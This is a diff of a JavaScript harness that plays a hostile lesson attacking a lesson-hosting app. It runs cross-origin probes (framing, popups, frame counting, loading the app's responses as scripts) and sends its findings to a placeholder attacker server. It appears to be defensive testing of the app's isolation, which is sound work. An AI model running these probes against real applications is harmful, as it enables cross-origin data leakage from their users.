@@ -2,9 +2,10 @@
  * What a hostile lesson tries, all of it as soon as it is opened; what came of it goes to the attacker's own server.
  * The same probes run where the lesson is served from the app's own origin, and succeed there: so they are able to.
  *
- * @typedef {{app: string, lesson: string, victim: string, links: string[], zip: string, patience: number}} Target the app's origin, the
- *   address of the lesson's page there, the folder of another lesson's files, links that sign an attacker in, a package as base64, and
- *   how many milliseconds a probe may take
+ * @typedef {{app: string, lesson: string, another: string, victim: string, links: string[], zip: string, patience: number}} Target the
+ *   app's origin, the addresses there of the lesson's page and of another's (in a new window, its own would be taken over there, and end
+ *   here), the folder of a lesson's files that somebody has open, links that sign an attacker in, a package as base64, and how
+ *   many milliseconds a probe may take
  */
 
 const ATTACKER = "{attacker}";
@@ -140,11 +141,11 @@ const quiet = {
   "reads the app in a frame": (target) => framed("iframe", { src: start(target) }, start(target)),
   "reads the app in an object": (target) => framed("object", { data: start(target), type: "text/html" }, start(target)),
   "shows the app in a frame, under a picture of its own": (target) => {
-    const frame = document.body.appendChild(Object.assign(document.createElement("iframe"), { src: target.lesson }));
+    const frame = document.body.appendChild(Object.assign(document.createElement("iframe"), { src: target.another }));
     return until(() => frame.contentWindow.length > 0); // the page has a frame itself, which can be counted from any origin
   },
   "reads the app in a window": (target) => inWindow(start(target), (opened) => opened.document.URL === start(target) && isReadable(opened)),
-  "counts the frames in a window of the app's": (target) => inWindow(target.lesson, (opened) => opened.length > 0),
+  "counts the frames in a window of the app's": (target) => inWindow(target.another, (opened) => opened.length > 0),
   "reads the app in a window through its own popup": () => inWindow("popup.html#look", (opened) => opened.seen === true),
   "runs an answer of the app's as a script": (target) => loads("script", { src: `${target.lesson}/state` }),
   "takes a module of the app's": (target) =>
@@ -288,11 +289,11 @@ async function attempt(probe) {
   return Promise.race([Promise.resolve().then(() => probe(ours)), late]).then(Boolean, () => false);
 }
 
-/** Ask the attacker for a target; only the first who asks gets one, so that a lesson opened by a probe keeps quiet. */
+/** Ask the attacker for a target; only the first may begin, so that a lesson opened by a probe keeps quiet. */
 async function begin() {
   const reply = await fetch(`${ATTACKER}/target`);
-  if (!reply.ok) return;
   ours = await reply.json();
+  if (!(await fetch(`${ATTACKER}/claim`)).ok) return;
   const found = await Promise.all(Object.entries(quiet).map(async ([name, probe]) => [name, await attempt(probe)]));
   await tell(Object.fromEntries(found));
   for (const [name, probe] of Object.entries(loud)) await tell({ [name]: await attempt(probe) });
